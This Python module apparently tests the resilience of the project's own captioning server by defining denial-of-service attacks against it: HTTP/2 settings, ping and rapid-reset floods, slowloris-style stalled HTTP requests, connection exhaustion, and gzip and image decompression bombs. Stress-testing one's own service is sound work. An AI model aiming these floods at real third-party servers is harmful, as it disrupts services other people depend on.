"""Attacks on a server, each as a function of its target: what an outsider can do with a connection."""

from __future__ import annotations

import gzip
import random
import socket
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import grpc
from common import load_images

from captioner.v1 import captioner_pb2 as pb
from captioner.v1.captioner_pb2_grpc import CaptionServiceStub
from captioner_server.inference import grpc_predict_v2_pb2 as oip

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "tests"))

CAPTION = "/captioner.v1.CaptionService/Caption"
INFER = "/inference.GRPCInferenceService/ModelInfer"
HEALTH = "/grpc.health.v1.Health/Check"
_POST = b"POST /v1/caption HTTP/1.1\r\nHost: x\r\nContent-Type: image/jpeg\r\n"


@dataclass(frozen=True)
class Target:
    """What an attacker reaches, and where it comes from."""

    grpc: str
    http: str
    source: str
    """The address of the attacker: another one than that of ordinary callers, where it uses plain sockets."""

    def connect(self, address: str) -> socket.socket:
        host, port = address.split(":")
        return socket.create_connection((host, int(port)), 5, (self.source, 0))


Once = Callable[[grpc.Channel], object]
"""Attacks once, over a channel of its own."""


def unary(method: str, message: bytes) -> Once:
    return lambda channel: channel.unary_unary(method)(message, timeout=20)


def of_photo(image: bytes) -> Once:
    return unary(CAPTION, pb.CaptionRequest(image=image).SerializeToString())


def nothing(target: Target) -> Once:
    """No attack, to compare with."""
    return lambda channel: time.sleep(1)


def shapes(target: Target) -> Once:
    """A shape of 60,000 dimensions."""
    request = oip.ModelInferRequest(model_name="captioner")
    request.inputs.add(name="IMAGE", datatype="BYTES", shape=[2**62] * 60_000)
    return unary(INFER, request.SerializeToString())


def elements(target: Target) -> Once:
    """Eight million empty elements."""
    request = oip.ModelInferRequest(model_name="captioner")
    request.inputs.add(name="IMAGE").contents.bytes_contents.extend([b""] * 8_000_000)
    return unary(INFER, request.SerializeToString())


def names(target: Target) -> Once:
    """A model name of 4 KB, for logs and details."""
    return unary(INFER, oip.ModelInferRequest(model_name="x" * 4000).SerializeToString())


def scans(target: Target) -> Once:
    """A progressive JPEG of empty scans."""
    from support.bombs import scan_bomb

    return of_photo(scan_bomb())


def strips(target: Target) -> Once:
    """A TIFF of a million strips."""
    from support.bombs import strip_bomb

    return of_photo(strip_bomb())


def maximum(target: Target) -> Once:
    """A PNM whose values are converted in Python."""
    return of_photo(b"P5 4000 4000 100\n" + bytes(16_000_000))


def memory(target: Target) -> Once:
    """A PNG of 121 megapixels."""
    from support.bombs import large

    return of_photo(large("PNG", 11_000))


def refused(target: Target) -> Once:
    """30 MB that are not an image."""
    return of_photo(bytes(30 * 2**20))


def padded(target: Target) -> Once:
    """A small photo with a tail of 30 MB."""
    return of_photo(load_images(None, 1)[0] + bytes(30 * 2**20))


def health(target: Target) -> Once:
    """30 MB to a health check."""
    return unary(HEALTH, b"\x0a\x80\x80\x80\x0f" + bytes(15 * 2**21))


def uploads(target: Target) -> Once:
    """Messages that never arrive."""
    from support.stalling import Stalling

    def once(channel: grpc.Channel) -> None:
        stalling = Stalling(target.grpc, CAPTION, 30 * 2**20, source=target.source)
        with suppress(OSError):
            for _ in range(16):
                stalling.call(1000)
                time.sleep(0.1)
        stalling.socket.close()

    return once


def compressed(target: Target) -> Once:
    """A gzip message that inflates to 50 MiB."""
    message = gzip.compress(bytes(50 * 2**20))
    from support.stalling import Stalling

    def once(channel: grpc.Channel) -> None:
        attacker = Stalling(target.grpc, CAPTION, len(message), source=target.source)
        with suppress(OSError):
            for _ in range(16):
                attacker.send_compressed(message)
                attacker.wait_for_answer()
        attacker.socket.close()

    return once


def metadata(target: Target) -> Once:
    """A PNG of 500,000 texts."""
    from support.bombs import text_bomb

    return of_photo(text_bomb())


def settings(target: Target) -> Once:
    """HTTP/2 settings without end."""
    return _frames(target, lambda attacker: attacker.settle(5000))


def opened(target: Target) -> Once:
    """New connections without end."""
    return _frames(target, lambda attacker: attacker.settle(1))


def headers(target: Target) -> Once:
    """A list of headers of 14 MB."""
    return _frames(target, lambda attacker: attacker.continue_headers(1000))


def resets(target: Target) -> Once:
    """Calls that are cancelled at once."""
    return _frames(target, lambda attacker: attacker.reset(500))


def begun(target: Target) -> Once:
    """Calls that are cancelled after their first bytes."""
    return _frames(target, lambda attacker: attacker.reset(500, 100))


def pings(target: Target) -> Once:
    """HTTP/2 pings without end."""
    return _frames(target, lambda attacker: attacker.ping(5000))


def probes(target: Target) -> Once:
    """Health checks whose message never arrives, over 32 connections by each caller."""
    from support.stalling import Stalling

    def once(channel: grpc.Channel) -> None:
        with ExitStack() as opened, suppress(OSError):
            for _ in range(32):
                stalling = Stalling(target.grpc, HEALTH, 1000, source=target.source)
                opened.enter_context(stalling.socket)
                stalling.call(10)
            time.sleep(1)

    return once


def connections(target: Target) -> Once:
    """Connections that say nothing, 256 by each caller."""

    def once(channel: grpc.Channel) -> None:
        with ExitStack() as opened, suppress(OSError):
            for _ in range(256):
                opened.enter_context(target.connect(target.grpc))
            time.sleep(1)

    return once


def _frames(target: Target, send: Callable[[Any], None]) -> Once:
    from support.stalling import Stalling

    def once(channel: grpc.Channel) -> None:
        attacker = Stalling(target.grpc, CAPTION, 0, source=target.source)
        with suppress(OSError):
            send(attacker)
        attacker.socket.close()

    return once


def searches(target: Target) -> Once:
    """The most expensive search, each with a length normalisation of its own."""
    image = load_images(None, 1)[0]

    def once(channel: grpc.Channel) -> None:
        alpha = random.uniform(0, 2)
        options = pb.CaptionOptions(beam_size=16, max_words=64, length_normalization=alpha)
        CaptionServiceStub(channel).Caption(pb.CaptionRequest(image=image, options=options), timeout=20)

    return once


def streams(target: Target) -> Once:
    """Endless CaptionBatch streams."""
    image = load_images(None, 1)[0]

    def requests() -> Iterator[pb.CaptionBatchRequest]:
        end = time.monotonic() + 5
        while time.monotonic() < end:
            yield pb.CaptionBatchRequest(id="x", image=image)

    def once(channel: grpc.Channel) -> None:
        for _ in CaptionServiceStub(channel).CaptionBatch(requests(), timeout=20):
            pass

    return once


def silent(target: Target) -> Once:
    """Silent CaptionBatch streams."""

    def requests() -> Iterator[pb.CaptionBatchRequest]:
        time.sleep(5)
        yield from ()

    return lambda channel: list(CaptionServiceStub(channel).CaptionBatch(requests(), timeout=20))


def http_idle(target: Target) -> Once:
    """HTTP: connections that say nothing, 256 by each caller."""
    return _http(target, 256, b"")


def http_heads(target: Target) -> Once:
    """HTTP: heads of requests that never end, over 64 connections by each caller."""
    return _http(target, 64, b"POST /v1/caption HTTP/1.1\r\nHost: x\r\n", b"X-a: b\r\n")


def http_bodies(target: Target) -> Once:
    """HTTP: bodies in chunks of one byte that never end, over 16 connections by each caller."""
    return _http(target, 16, _POST + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 500)


def http_pipelines(target: Target) -> Once:
    """HTTP: 500 requests on a connection whose answers are not read, over 16 connections by each caller."""
    return _http(target, 16, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 500)


def http_opened(target: Target) -> Once:
    """HTTP: new connections without end."""

    def once(channel: grpc.Channel) -> None:
        with suppress(OSError), target.connect(target.http) as one:
            one.sendall(b"GET / HTTP/1.1\r\n")

    return once


def http_requests(target: Target) -> Once:
    """HTTP: requests of 30 MB that are no images."""

    def once(channel: grpc.Channel) -> None:
        with suppress(OSError), target.connect(target.http) as one:
            one.sendall(_POST + b"Content-Length: 31457280\r\n\r\n" + bytes(30 * 2**20))
            one.recv(1000)

    return once


def _http(target: Target, connections: int, first: bytes, more: bytes = b"") -> Once:
    """Open connections, send on each of them, and then `more` for a second."""

    def once(channel: grpc.Channel) -> None:
        with ExitStack() as opened, suppress(OSError):
            sockets = [opened.enter_context(target.connect(target.http)) for _ in range(connections)]
            for one in sockets:
                one.settimeout(0.01)  # a server that reads no more does not hold up the attacker
            for part in (first, *[more] * 10):
                for one in sockets:
                    with suppress(TimeoutError):
                        one.sendall(part)
                time.sleep(0.1)

    return once


OVER_HTTP = (http_idle, http_heads, http_bodies, http_pipelines, http_opened, http_requests)
OVER_GRPC = (
    nothing,
    *(shapes, elements, names, scans, strips, maximum, memory, refused, padded, health, uploads, compressed),
    *(metadata, settings, pings, opened, headers, resets, begun, probes, connections),
    *(searches, streams, silent),
)
ATTACKS: dict[str, Callable[[Target], Once]] = {
    attack.__name__: attack for attack in (*OVER_GRPC, *OVER_HTTP)
}
FLOODS = (
    "nothing",
    "settings",
    "pings",
    "opened",
    "headers",
    "resets",
    "begun",
    "probes",
    "connections",
    "uploads",
    "compressed",
)
"""What gRPC handles before the server sees a call, or what takes connections and memory."""
CALLERS = {"searches": 40, "streams": 32, "silent": 64}
"""Attackers at once, where it takes more than `--callers`."""
